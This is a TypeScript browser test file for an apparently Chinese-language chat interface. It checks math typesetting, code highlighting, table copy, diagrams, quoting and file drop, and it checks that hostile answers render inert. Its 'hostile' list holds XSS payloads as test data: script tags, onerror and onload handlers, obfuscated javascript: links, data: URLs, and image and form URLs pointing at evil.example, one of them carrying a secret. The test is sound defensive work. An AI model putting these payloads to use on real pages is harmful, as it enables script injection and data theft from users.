import {
  answersOf,
  ask,
  composerOf,
  findChromium,
  golden,
  goldenLine,
  type House,
  openHouse,
  openPage,
  questionsOf,
  register,
  somebody,
} from "@claw/testing/browser";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { dropFiles } from "./drop-files.ts";

const executable = findChromium();

const rich = [
  "设直角边为 $a$ 与 $b$，则\n\n\\[\na^2 + b^2 = c^2\n\\]\n\n花费 $5 与 $10 不是公式。",
  `\`\`\`ts\n${"export const value = 42; // 注释\n".repeat(500)}\`\`\``,
  '| 项目 | 说明 |\n|---|---|\n| 甲 | 含"引号", 和逗号 |\n| 乙 | 短 |',
  "```mermaid\nflowchart LR\n  提问 --> 回答\n```",
  '```mermaid\nflowchart LR\n  a["<img src=\'https://evil.example/d.png\'>"] --> b@{ img: "https://evil.example/e.png" }\n```',
].join("\n\n");

/** Whatever a model may be talked into writing, and what people paste. */
const hostile = [
  "<script>window.isOwned = true</script>",
  '<img src="https://evil.example/a.png" onerror="window.isOwned = true">',
  "![图](https://evil.example/b.png?secret=1)",
  "![内](data:text/html,<script>window.isOwned=true</script>)",
  "[点我](javascript:window.isOwned=true)",
  "[再点](JaVaScRiPt&#58;window.isOwned=true)",
  '<a href="data:text/html,<script>1</script>">资料</a>',
  '<iframe src="https://evil.example"></iframe><svg onload="window.isOwned=true"></svg>',
  "<style>*{display:none}</style><form action=https://evil.example><input></form>",
  "公式 $\\href{javascript:window.isOwned=true}{x}$ 与 $\\rule{500em}{500em}$ 与 $\\includegraphics{https://evil.example/c.png}$",
  "مرحبا بالعالم \u202Eevil\u202C، هذا نص عربي طويل بما يكفي.",
  `Z${"\u0310\u0344\u035B\u0347".repeat(40)}algo`,
  "👨‍👩‍👧‍👦🏳️‍🌈".repeat(400),
  "长".repeat(20_000),
  "a".repeat(40_000),
  "`".repeat(40_000),
  "| a ".repeat(200),
].join("\n\n");

const quotedName = `他说"你好" & <b>'再见'</b>.txt`;

describe.skipIf(executable === null)("what is read in a conversation", () => {
  let house: House;

  beforeAll(async () => {
    if (executable) house = await openHouse(executable);
  });
  afterAll(() => house[Symbol.asyncDispose]());

  test("code, formulas, tables and diagrams are typeset, taken along and quoted; files that are dropped can be asked about", async () => {
    house.answering({ 丰富: { pieces: [rich], usage: golden } });
    const { page, problems } = await openPage(house.browser, house.url);
    await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
    const clipboard = () => page.evaluate(() => navigator.clipboard.readText());
    await register(page, house.url, somebody());
    await ask(page, "丰富一点");
    const answer = answersOf(page);
    await answer.getByText(goldenLine).waitFor();

    await answer.locator(".katex-display math").waitFor({ state: "attached" });
    expect(await answer.locator(".katex").count()).toBe(3);
    await answer.getByText("花费 $5 与 $10 不是公式。").waitFor();
    await answer.getByText("export const value").scrollIntoViewIfNeeded();
    await expect.poll(() => page.evaluate(() => CSS.highlights.get("code-number")?.size)).toBe(500);

    await answer.getByRole("table").scrollIntoViewIfNeeded();
    await answer.getByRole("button", { name: "复制表格" }).click();
    await page.getByRole("menuitem", { name: "复制为 CSV" }).click();
    await expect.poll(clipboard).toBe('项目,说明\n甲,"含""引号"", 和逗号"\n乙,短');

    const diagram = answer.getByRole("img", { name: "图表" });
    await diagram.waitFor();
    expect(await diagram.getAttribute("src")).toMatch(/^data:image\/svg\+xml/);
    await answer.getByText("这张图画不出来，上面是它的源码。").waitFor();
    await answer.getByRole("button", { name: "查看源码" }).click();
    await answer.getByText("提问 --> 回答").waitFor();

    const sentence = answer.getByText("花费 $5 与 $10 不是公式。");
    await sentence.scrollIntoViewIfNeeded();
    await sentence.selectText();
    await page.getByRole("button", { name: "引用" }).click();
    expect(await composerOf(page).inputValue()).toBe("> 花费 $5 与 $10 不是公式。\n\n");
    await composerOf(page).fill("");

    await dropFiles(page, [{ name: quotedName, type: "text/plain", content: "灯塔的高度是四十二米。" }]);
    const chips = page.getByRole("list", { name: "这个会话的文件" });
    await chips.getByText("可以提问了").waitFor({ timeout: 40_000 });
    await page.getByRole("button", { name: "不再使用“会话文件”" }).waitFor();
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
    expect(problems).toEqual([]);
  }, 120_000);

  test("an answer and a question that try to run, to fetch, to lead astray or to break the page are shown and do nothing", async () => {
    house.answering({ 攻击: { pieces: [hostile], usage: golden } });
    const { page, problems } = await openPage(house.browser, house.url, {
      viewport: { width: 390, height: 780 },
    });
    await register(page, house.url, somebody());
    await ask(page, `攻击 ${hostile.slice(0, 60_000)}`);
    const answer = answersOf(page);
    await answer.getByText(goldenLine).waitFor({ timeout: 40_000 });
    await answer.locator(".katex").first().waitFor({ state: "attached" });

    const text = answer.locator(".markdown");
    expect(await text.locator("script, img, iframe, object, embed, style, form, input").count()).toBe(0);
    expect(
      await text.locator("a").evaluateAll((links) => links.map((link) => link.getAttribute("href"))),
    ).toEqual(["https://evil.example/b.png?secret=1"]);
    await answer.getByText("图片：图（来自 evil.example，未加载）").waitFor();
    expect(await text.locator('[dir="rtl"]').count()).toBe(1);
    expect(await questionsOf(page).locator("script, img, a").count()).toBe(0);

    const widths = await page.evaluate(() => {
      const column = document.querySelector("[data-scroller]");
      return [document.documentElement.scrollWidth, innerWidth, column?.scrollWidth, column?.clientWidth];
    });
    expect(widths[0]).toBe(widths[1]);
    expect(widths[2]).toBe(widths[3]);
    await composerOf(page).fill("还能写");
    expect(await page.evaluate(() => "isOwned" in window)).toBe(false);
    expect(problems).toEqual([]);
  }, 120_000);
});
